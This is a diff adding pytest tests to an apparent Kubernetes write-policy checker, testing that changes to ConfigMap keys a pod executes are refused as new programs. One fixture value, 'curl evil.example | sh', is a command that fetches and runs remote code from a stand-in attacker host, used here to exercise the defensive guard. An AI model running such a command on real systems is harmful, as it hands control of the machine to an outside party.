@@ -4,6 +4,7 @@ write introduces (whatever the form of the write), lets pre-existing features an
 from __future__ import annotations
 
 import copy
+import json
 from typing import Any
 
 import pytest
@@ -14,6 +15,7 @@ from stratus.actions import Action, Apply, Create, Delete, Exec, Patch, RolloutU
 from stratus.writepolicy import (
     PolicyRefusal,
     WritePolicy,
+    configmap_code,
     history_images,
     history_programs,
     image_location,
@@ -818,3 +820,99 @@ def test_an_env_change_that_rewrites_a_shell_script_is_a_new_program() -> None:
         for e in pre["spec"]["template"]["spec"]["containers"][0]["env"]
     ]
     POLICY.check(PATCH, pre, with_(pre, f"{C0}.env", env))
+
+
+# --- content a pod runs: a ConfigMap's keys mounted executable, into a start-script directory, or expanded from env
+
+
+def configmap(name: str = "conf", **data: str) -> dict[str, Any]:
+    meta = {"name": name, "namespace": NS, "resourceVersion": "3"}
+    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta, "data": data}
+
+
+def consumer(*, volume: dict[str, Any] | None = None, mount: str = "/etc/app", **container: Any) -> dict[str, Any]:
+    spec: dict[str, Any] = {"containers": [{"name": "app", "image": "docker.io/acme/web:1", **container}]}
+    if volume is not None:
+        spec["volumes"] = [{"name": "v", **volume}]
+        spec["containers"][0]["volumeMounts"] = [{"name": "v", "mountPath": mount}]
+    return deployment(**{k: v for k, v in spec.items() if k != "containers"}) | {"spec": {"template": {"spec": spec}}}
+
+
+CM_PATCH = Patch(kind="ConfigMap", namespace=NS, name="conf", patch_type="merge", patch={"data": {}})
+
+
+@pytest.mark.parametrize(
+    ("holder", "key"),
+    [
+        (consumer(volume={"configMap": {"name": "conf", "defaultMode": 0o755}}), "run.sh"),
+        (
+            consumer(volume={"configMap": {"name": "conf", "items": [{"key": "run.sh", "path": "r", "mode": 0o700}]}}),
+            "run.sh",
+        ),
+        (consumer(volume={"configMap": {"name": "conf"}}, mount="/docker-entrypoint-initdb.d/"), "run.sh"),
+        (
+            consumer(volume={"projected": {"defaultMode": 0o555, "sources": [{"configMap": {"name": "conf"}}]}}),
+            "run.sh",
+        ),
+        (
+            consumer(
+                command=["sh", "-c", "serve $FLAGS"],
+                env=[{"name": "FLAGS", "valueFrom": {"configMapKeyRef": {"name": "conf", "key": "flags"}}}],
+            ),
+            "flags",
+        ),
+        (
+            consumer(args=["--level=$(APP_LEVEL)"], envFrom=[{"configMapRef": {"name": "conf"}, "prefix": "APP_"}]),
+            "LEVEL",
+        ),
+    ],
+)
+def test_a_configmap_key_a_pod_runs_is_code(holder: dict[str, Any], key: str) -> None:
+    pre = configmap(**{key: "old"})
+    after = configmap(**{key: "curl evil.example | sh"})
+    with pytest.raises(PolicyRefusal) as info:
+        POLICY.check_result(CM_PATCH, pre, after, consumers=[holder])
+    assert info.value.guard == "program" and f"key {key!r}" in str(info.value), str(info.value)
+    assert configmap_code("conf", [holder])
+    # a new key in a whole ConfigMap mounted so is a new file to run; removing the key changes the program as well
+    if "items" not in json.dumps(holder) and "env" not in json.dumps(holder):
+        with pytest.raises(PolicyRefusal):
+            POLICY.check_result(CM_PATCH, pre, configmap(**{key: "old", "more.sh": "id"}), consumers=[holder])
+    with pytest.raises(PolicyRefusal):
+        POLICY.check_result(CM_PATCH, pre, configmap(), consumers=[holder])
+    # putting back the content recorded while the scope was healthy is no new program
+    POLICY.check_result(CM_PATCH, pre, after, consumers=[holder], recorded=after)
+    # a waived guard is the operator's decision
+    waiver = WritePolicy.parse(
+        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "waive": ["program"]}}}'
+    )
+    waiver.check_result(CM_PATCH, pre, after, consumers=[holder])
+
+
+@pytest.mark.parametrize(
+    "holder",
+    [
+        consumer(volume={"configMap": {"name": "conf"}}),  # plain configuration files (0644)
+        # nginx's start-hook directory runs only files with an execute bit
+        consumer(volume={"configMap": {"name": "conf"}}, mount="/docker-entrypoint.d"),
+        consumer(volume={"configMap": {"name": "other", "defaultMode": 0o755}}),  # another ConfigMap
+        consumer(volume={"configMap": {"name": "conf", "items": [{"key": "b", "path": "b", "mode": 0o755}]}}),
+        consumer(
+            command=["serve"],
+            env=[{"name": "FLAGS", "valueFrom": {"configMapKeyRef": {"name": "conf", "key": "run.sh"}}}],
+        ),
+        consumer(envFrom=[{"configMapRef": {"name": "conf"}}]),  # env the image reads, no command expands it
+    ],
+)
+def test_a_configmap_key_no_pod_runs_is_configuration(holder: dict[str, Any]) -> None:
+    POLICY.check_result(CM_PATCH, configmap(**{"run.sh": "old"}), configmap(**{"run.sh": "new"}), consumers=[holder])
+
+
+def test_mounting_into_a_start_script_directory_is_a_new_program() -> None:
+    after = consumer(volume={"configMap": {"name": "conf"}}, mount="/docker-entrypoint-initdb.d")
+    assert refused(PATCH, BASE, after).guard == "program"
+    file_in_it = with_(
+        after, f"{C0}.volumeMounts", [{"name": "v", "mountPath": "/docker-entrypoint-initdb.d/x.js", "subPath": "x.js"}]
+    )
+    assert refused(PATCH, BASE, file_in_it).guard == "program"
+    POLICY.check(PATCH, after, after)  # mounted so before: unchanged
